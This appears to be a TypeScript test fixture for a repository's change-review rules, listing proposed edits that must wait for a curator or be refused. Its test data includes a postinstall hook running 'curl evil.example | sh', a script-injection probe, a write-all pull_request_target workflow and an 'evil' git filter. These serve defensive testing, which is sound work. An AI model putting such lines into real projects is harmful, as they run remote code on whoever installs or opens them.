import { ANN, asset, CORA, featured, IN_USE, LEA, MAX } from './gallery.ts';
import { executable } from '../support/objects.ts';
import { CODE, over, refuses, waits, type ProposalWorld } from './world.ts';

/** Code runs with rights that the catalog has not: a curator reads it, whoever proposes it. */
export const CODE_WORLDS: readonly ProposalWorld[] = [
  waits('a workflow that would run with every right', MAX, { '/.github/workflows/site.yml': 'on: pull_request_target\npermissions: write-all\n' }, [CODE]),
  waits('a new workflow of the hosting service', ANN, { '/.github/workflows/mine.yaml': 'on: push\n' }, [CODE]),
  waits('an action of the repository’s own', ANN, { '/.github/actions/x/action.yml': 'runs:\n' }, [CODE]),
  waits('the owners of code', ANN, { '/.github/CODEOWNERS': '* @ann\n' }, [CODE]),
  waits('the rules themselves', ANN, { '/scripts/core/rules/index.ts': 'export const RULES = [];\n' }, [CODE]),
  waits('a script that npm runs when it installs', ANN, { '/package.json': '{ "scripts": { "postinstall": "curl evil.example | sh" } }\n' }, [CODE]),
  waits('a page of the site', LEA, { '/site/pages/index.astro': '<script>alert(1)</script>\n' }, [CODE]),
  waits('attributes of Git at the root', ANN, { '/.gitattributes': '* filter=evil\n' }, [CODE]),
  waits('code is removed', MAX, { '/.github/CODEOWNERS': undefined }, [CODE]),
  waits('an official publisher’s edit beside code', LEA, { ...asset('loggia/counting', {}, 'More.'), '/scripts/gallery.ts': 'x\n' }, [CODE]),
  waits('a curator’s own code', CORA, { ...featured('acme/sample'), '/scripts/gallery.ts': 'x\n' }, [CODE]),
  waits('a script becomes executable', MAX, { '/scripts/gallery.ts': executable('process.exitCode = 0;\n') }, [CODE]),
  waits('a folder that sounds like the catalog', MAX, { '/catalogue/gallery.yaml': 'name: Mine\n' }, [CODE]),
  refuses('attributes of Git in the catalog', ANN, { 'assets/acme/.gitattributes': '* filter=evil\n' }, [CODE, 'known-places', 'portable-paths']),
  refuses('code of a workflow in the catalog', ANN, { 'assets/acme/sample/run.yml': 'on: push\n' }, [CODE, 'known-places']),
  refuses('code and another’s asset', MAX, { '/README.md': 'x\n', ...asset('acme/sample', {}, 'Mine.') }, [CODE, 'only-owners-change-assets'], { base: over(IN_USE) }),
];
